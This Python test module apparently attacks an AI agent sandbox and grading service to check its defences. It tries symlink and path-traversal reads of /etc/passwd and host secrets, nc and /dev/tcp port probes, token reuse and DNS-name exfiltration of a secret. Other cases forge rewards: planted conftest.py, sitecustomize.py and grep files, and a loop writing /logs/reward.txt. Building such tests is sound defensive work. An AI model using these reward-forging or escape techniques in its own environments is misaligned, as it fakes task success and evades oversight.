"""Attacks that need more than a command: on files through tools, on tokens, on the grader."""

import asyncio
import json
from collections.abc import Awaitable, Callable, Mapping

import grpc
import pytest
from tests.attacks.arena import GONE, REACHED, Arena
from tests.attacks.proxied import TALK

from etude.v1 import environments_pb2

Deed = Callable[[Arena], Awaitable[str]]
"""Attacks, and says what it reached; empty if nothing."""

VERIFIER = b"""sh /workspace/solution.sh 2>/dev/null | grep -qx 42 && printf 1 > /logs/reward.txt
cd /tests && command -v python3 >/dev/null && python3 -c 'import json'
true
"""
"""Solved by nobody here; it starts what plants hope to be started by."""
PLANT = f"printf 1 > /logs/reward.txt; echo {REACHED}"
PYTHON_PLANT = f'''import pathlib
pathlib.Path("/logs/reward.txt").write_text("1")
print("{REACHED}")
'''


async def _reads(arena: Arena, setup: str, path: str) -> str:
    """Whether a file tool gives the host's or the neighbour's secret away, or hangs."""
    await arena.sh(setup)
    async with asyncio.timeout(120):
        said = await arena.tool("read_file", path=path)
    told = arena.secret in said or "root:" in said
    return f"{path} reads {said[:100]!r}" if told else ""


def reading(setup: str, path: str) -> Deed:
    """A file that a tool must not follow."""

    async def deed(arena: Arena) -> str:
        host = str(arena.host)
        return await _reads(arena, setup.replace("{host}", host), path.replace("{host}", host))

    return deed


async def write_through_a_link(arena: Arena) -> str:
    await arena.sh(f"ln -s {arena.host} out; ln -s {arena.host}/secret mine")
    await arena.tool("write_file", path="out/new", content="x")
    await arena.tool("write_file", path="mine", content="x")
    await arena.tool("search_replace", path="mine", old_string=arena.secret, new_string="x")
    await arena.tool("delete_file", path="out/secret")
    return ""  # the arena looks at the host's folder


async def exchange_a_folder_for_a_link(arena: Arena) -> str:
    race = f"mkdir -p a/b; ln -s {arena.host} c; while :; do mv a z; mv c a; mv a c; mv z a; done"
    await arena.tool("run_terminal", command=race, is_background="true", timeout="20")
    for number in range(40):
        await arena.tool("write_file", path=f"a/{number}", content="x")
        await arena.tool("write_file", path=f"a/b/{number}", content="x")
    return ""


async def find_the_host_from_inside(arena: Arena) -> str:
    said = await arena.sh(f"grep -rl {arena.secret} / 2>/dev/null | grep -v ^/proc/self; true")
    found = [line for line in said.splitlines() if line.startswith("/")]
    # The search itself is in /proc, with what it looks for.
    mine = [line for line in found if not line.startswith("/proc/")]
    return f"found in {mine[:3]}" if mine else ""


async def see_the_neighbour(arena: Arena) -> str:
    said = await arena.sh(
        f"cat /tmp/canary canary ../canary /workspace/canary 2>/dev/null;"
        f" ps -ef 2>/dev/null | grep -c {arena.neighbour.lease_id}-; ls / /tmp 2>/dev/null"
    )
    return said[:100] if arena.secret in said else ""


async def meet_the_neighbour_on_a_port(arena: Arena) -> str:
    command = "command -v nc >/dev/null && timeout 5 nc -l -p 4242 -s 127.0.0.1 2>/dev/null"
    listening = asyncio.create_task(arena.sh(f"{command}; true"))
    await asyncio.sleep(1)
    await arena.call(  # an accomplice
        arena.neighbour,
        "run_terminal",
        {"command": f"echo {REACHED} | timeout 2 nc 127.0.0.1 4242 2>/dev/null; true"},
    )
    return await listening if REACHED in await listening else ""


async def reach_the_pools_own_ports(arena: Arena) -> str:
    ports = " ".join(str(port) for port in arena.processes.ports.values())
    said = await arena.sh(
        f"for p in {ports}; do (timeout 2 nc 127.0.0.1 $p </dev/null ||"
        f" (: > /dev/tcp/127.0.0.1/$p)) 2>/dev/null && echo {REACHED} $p; done; true"
    )
    return said[:100] if REACHED in said else ""


async def use_the_agents_token_for_control(arena: Arena) -> str:
    lease = environments_pb2.Lease()
    lease.CopyFrom(arena.lease)
    lease.control_token = arena.lease.agent_token
    return await _refused(arena, lease, grpc.StatusCode.PERMISSION_DENIED)


async def use_the_neighbours_token(arena: Arena) -> str:
    lease = environments_pb2.Lease()
    lease.CopyFrom(arena.lease)
    lease.control_token = arena.neighbour.control_token
    lease.agent_token = arena.neighbour.agent_token
    if reached := await _refused(arena, lease, grpc.StatusCode.PERMISSION_DENIED):
        return reached
    try:
        said = await arena.pool.turn(lease, ("stolen", "run_terminal", {"command": "true"}))
    except grpc.aio.AioRpcError as error:
        return "" if error.code() is grpc.StatusCode.PERMISSION_DENIED else str(error.code())
    return f"a turn with a foreign token: {said}"


async def replay_a_released_lease(arena: Arena) -> str:
    (lease,) = await arena.pool.launch("released")
    request = environments_pb2.ReleaseLeasesRequest(lease_ids=[lease.lease_id])
    await arena.pool.broker.ReleaseLeases(request)
    return await _refused(arena, lease, grpc.StatusCode.NOT_FOUND)


async def _refused(arena: Arena, lease: environments_pb2.Lease, wanted: grpc.StatusCode) -> str:
    """What got through of all that only the controller may do."""
    job = environments_pb2.GradeJob(command="true", timeout_seconds=5, reward_path="/logs/r")
    calls: Mapping[str, Callable[[], Awaitable[object]]] = {
        "Diff": lambda: arena.pool.diff(lease),
        "Grade": lambda: arena.pool.grade(lease, job),
    }
    for name, call in calls.items():
        try:
            await call()
        except grpc.aio.AioRpcError as error:
            if error.code() is wanted:
                continue
            return f"{name} answers {error.code().name}, not {wanted.name}"
        return f"{name} was allowed"
    return ""


def plant(path: str, text: str = f"#!/bin/sh\n{PLANT}\n") -> Deed:
    """A file that hopes to be run by the grader in place of its own."""

    async def deed(arena: Arena) -> str:
        await arena.sh(
            f"mkdir -p $(dirname {path}) && cat > {path} <<'END'\n{text}END\nchmod +x {path}"
        )
        return await _graded(arena)

    return deed


async def wait_for_the_grader(arena: Arena) -> str:
    await arena.sh(
        "(setsid sh -c 'while :; do mkdir -p /logs /tests; printf 1 > /logs/reward.txt;"
        ' printf "printf 1 > /logs/reward.txt" > /tests/test.sh; done\' >/dev/null 2>&1 &) ; true'
    )
    return await _graded(arena)


async def write_the_reward_before_the_verifier(arena: Arena) -> str:
    await arena.sh(
        "mkdir -p /logs /workspace/logs; printf 1 > /logs/reward.txt;"
        " printf 1 > logs/reward.txt; ln -s /logs/reward.txt reward.txt"
    )
    return await _graded(arena)


async def hand_in_a_link_as_a_file(arena: Arena) -> str:
    await arena.sh(f"ln -s {arena.host}/secret solution.sh; ln -s /etc/passwd passwd")
    diff = await arena.pool.diff(arena.lease)
    taken = [file.path for file in diff.written if arena.secret in file.content.decode("latin-1")]
    return f"the diff holds the content behind a link: {taken}" if taken else ""


async def _graded(arena: Arena) -> str:
    """Whether an attempt that solves nothing is paid."""
    try:
        diff = await arena.pool.diff(arena.lease)
    except grpc.aio.AioRpcError as error:
        return "" if error.code() is grpc.StatusCode.NOT_FOUND else str(error)
    job = environments_pb2.GradeJob(
        diff=diff,
        files=[environments_pb2.WorkspaceFile(path="test.sh", content=VERIFIER)],
        command="sh /tests/test.sh",
        timeout_seconds=60,
        reward_path="/logs/reward.txt",
    )
    try:
        graded = await arena.pool.grade(arena.lease, job)
    except grpc.aio.AioRpcError as error:
        return "" if error.code() in GONE else str(error)
    if REACHED in graded.output.decode(errors="replace"):
        return "the grader ran the attacker's file"
    return f"a reward of {graded.reward_file!r}" if graded.reward_file else ""


async def carry_data_in_names(arena: Arena) -> str:
    """Every name that is looked up would tell its owner's name server what is in it."""
    if arena.processes.network["egress"] == "None":
        pytest.skip("there is no proxy in this pool")
    name = f"{arena.secret}.example.net"
    head = f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"
    said = await arena.sh(f"printf '%b' '{head}' | {TALK}")
    if " 403 " not in said:
        return f"the proxy answers {said[:200]!r}"
    refused = f"verdict=not_listed rule=- method=CONNECT host={name} port=443"
    return "" if refused in arena.processes.log("node") else "nobody logged it"


async def arguments_of_a_megabyte(arena: Arena) -> str:
    for name, argument in (("run_terminal", "command"), ("read_file", "path"), ("grep", "pattern")):
        said = await arena.tool(name, **{argument: "a" * (1 << 20)})
        if len(said) > 4096:
            return f"{name} answers with {len(said)} characters"
    return ""


async def calls_that_are_no_calls(arena: Arena) -> str:
    requests = [
        environments_pb2.ToolCall(call_id=str(n), name=name, arguments_json=text)
        for n, (name, text) in enumerate(
            [
                ("read_file", "{"),
                ("read_file", "[]"),
                ("read_file", json.dumps({"path": 7})),
                ("read_file", "[" * 100_000),
                ("reset", "{}"),
                ("__class__", "{}"),
                ("grep", json.dumps({"pattern": "(a+)+$" * 50})),
            ]
        )
    ]
    request = environments_pb2.RunTurnRequest(
        lease_id=arena.lease.lease_id, agent_token=arena.lease.agent_token, calls=requests
    )
    answer = await arena.pool.node(arena.lease).RunTurn(request, timeout=120)
    wrong = [r.content[:60] for r in answer.results[:6] if not r.is_error]
    return f"not refused: {wrong}" if wrong else ""


DEEDS: Mapping[str, Deed] = {
    "reading above the workspace": reading("true", "../../../../etc/passwd"),
    "reading an absolute path": reading("true", "/etc/passwd"),
    "reading through a link to a file": reading("ln -s /etc/passwd link", "link"),
    "reading through a link to a folder": reading("ln -s / up", "up/etc/passwd"),
    "reading through a link to the host": reading("ln -s {host}/secret link", "link"),
    "reading through a magic link": reading("ln -s /proc/self/root up", "up/etc/passwd"),
    "reading a hard link to a foreign file": reading("ln /etc/passwd hard 2>/dev/null", "hard"),
    "reading a pipe": reading("mkfifo pipe", "pipe"),
    "reading a circle of links": reading("ln -s b a; ln -s a b", "a"),
    "reading a terabyte of nothing": reading("truncate -s 60G sparse", "sparse"),
    "writing through a link": write_through_a_link,
    "exchanging a folder for a link while a tool writes": exchange_a_folder_for_a_link,
    "looking for the host from inside": find_the_host_from_inside,
    "looking for the neighbour": see_the_neighbour,
    "meeting the neighbour on a port": meet_the_neighbour_on_a_port,
    "calling the pool's own ports": reach_the_pools_own_ports,
    "the agent's token for control": use_the_agents_token_for_control,
    "the neighbour's token": use_the_neighbours_token,
    "a lease that was released": replay_a_released_lease,
    "planted tests": plant("/workspace/tests/test.sh"),
    "a planted conftest": plant("conftest.py", PYTHON_PLANT),
    "a planted sitecustomize": plant("sitecustomize.py", PYTHON_PLANT),
    "a planted shell profile": plant(".profile"),
    "a planted standard module": plant("json.py", PYTHON_PLANT),
    "a planted program on the path": plant("bin/grep", f"#!/bin/sh\n{PLANT}\nexit 0\n"),
    "a process that waits for the grader": wait_for_the_grader,
    "a reward before the verifier's": write_the_reward_before_the_verifier,
    "links handed in as files": hand_in_a_link_as_a_file,
    "data in the names of hosts": carry_data_in_names,
    "arguments of a megabyte": arguments_of_a_megabyte,
    "calls that are no calls": calls_that_are_no_calls,
}
